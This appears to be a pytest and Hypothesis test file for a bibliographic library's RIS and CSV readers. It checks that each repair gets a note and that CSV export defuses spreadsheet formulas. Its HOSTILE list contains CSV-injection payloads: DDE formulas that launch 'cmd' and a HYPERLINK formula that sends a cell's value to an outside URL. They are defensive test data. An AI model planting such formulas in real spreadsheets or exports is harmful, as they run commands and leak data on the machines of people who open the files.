"""No silent repairs (issue #11): every repair a reader makes is a note naming the record and line."""

from __future__ import annotations

from hypothesis import given
from hypothesis import strategies as st

from realreview.formats import loads
from realreview.formats.csv_exports import dumps
from realreview.records import make_record, remove_control_characters
from realreview.tables import csv_text, csv_untext


def _notes(result) -> list[str]:  # type: ignore[no-untyped-def]
    return [str(diagnostic) for diagnostic in result.diagnostics]


def test_an_untagged_ris_line_joined_to_the_title_is_noted() -> None:
    text = (
        "TY  - JOUR\nTI  - First part\nsecond part of the title\nthird part\n"
        "AB  - An abstract\nthat wraps, as abstracts do\nPY  - 2020\nER  - \n"
    )
    result = loads(text, "ris")
    assert result.records[0].title == "First part second part of the title third part"
    # Once per field, at its first untagged line; the wrapped abstract is ordinary and not noted.
    assert _notes(result) == [
        "record 1 (line 3): untagged line joined to the TI field above: 'second part of the title'"
    ]


def test_an_unreadable_ris_year_is_noted_and_kept_raw() -> None:
    result = loads("TY  - JOUR\nTI  - A title\nPY  - notayear\nER  - \n", "ris")
    (record,) = result.records
    assert record.year is None
    assert ("PY", "notayear") in record.raw
    assert _notes(result) == [
        "record 1 (line 1): unreadable year 'notayear'; year left empty, the text kept in the raw field"
    ]


def test_an_unreadable_csv_year_is_noted_with_its_line() -> None:
    result = loads('Title,Authors,Year\nOne,"Doe, J",2020\nTwo,"Roe, K",circa\n', "csv")
    assert [record.year for record in result.records] == [2020, None]
    assert ("Year", "circa") in result.records[1].raw
    assert _notes(result) == [
        "record 2 (line 3): unreadable year 'circa'; year left empty, the text kept in the raw field"
    ]


def test_control_characters_are_removed_from_raw_and_normalised_fields_with_a_note() -> None:
    text = "TY  - JOUR\nTI  - NUL\x00 in the\x07 title\nAB  - tab\tstays\nER  - \n" * 2
    result = loads(text, "ris")
    assert [record.title for record in result.records] == ["NUL in the title"] * 2
    assert ("TI", "NUL in the title") in result.records[1].raw
    assert ("AB", "tab\tstays") in result.records[1].raw
    assert _notes(result) == [
        "record 1 (line 1): removed control character(s) U+0000, U+0007",
        "record 2 (line 5): removed control character(s) U+0000, U+0007",
    ]


def test_control_characters_in_csv_cells_are_removed_with_a_note() -> None:
    result = loads('Title,Authors\n"Bad\x00 title","Doe, J"\n', "csv")
    assert result.records[0].title == "Bad title"
    assert _notes(result) == ["record 1 (line 2): removed control character(s) U+0000"]


def test_remove_control_characters_keeps_tab_and_line_ends() -> None:
    assert remove_control_characters("a\tb\nc\r\x0bd\x1f") == ("a\tb\nc\rd", "U+000B, U+001F")


@given(st.text(alphabet="'=+-@\t\r0123456789.eE ab", max_size=10))
def test_the_csv_quote_comes_off_exactly(value: str) -> None:
    assert csv_untext(csv_text(value)) == value
    defused = csv_text(value)
    assert not defused.startswith(("=", "+", "-", "@", "\t", "\r")) or _is_number(value)


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return text.strip() == text and "_" not in text


HOSTILE = [
    '=HYPERLINK("http://example.org/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted once",
    "''-twice",
    "- a dash list",
    "'tis the season",
]


def test_records_csv_defuses_formulas_and_reads_back_exactly() -> None:
    records = [make_record([], title=title, authors=["Doe, Jane"], pages="-3") for title in HOSTILE]
    text = dumps(records)
    lines = text.splitlines()[1:]
    assert lines[0].startswith("\"'=HYPERLINK(")
    assert lines[1].startswith("'+cmd|")
    assert lines[2].startswith("'-2+3")
    assert lines[3].startswith("'@SUM")
    assert lines[4].startswith("''=already")
    assert lines[7].startswith("'tis")
    again = loads(text, "csv")
    assert [record.title for record in again.records] == HOSTILE
    assert again.records[0].raw[0] == ("title", HOSTILE[0])


def test_raw_records_csv_keeps_formulas() -> None:
    text = dumps([make_record([], title=HOSTILE[0])], defuse_formulas=False)
    assert text.splitlines()[1].startswith('"=HYPERLINK(')


def test_a_database_csv_is_read_as_written() -> None:
    # Only RealReview's own CSV gets its quote back: another database's "'=x" is its value.
    result = loads('Title,Authors,Source title\n\'=x,"Doe, J",Lancet\n', "csv")
    assert result.records[0].title == "'=x"
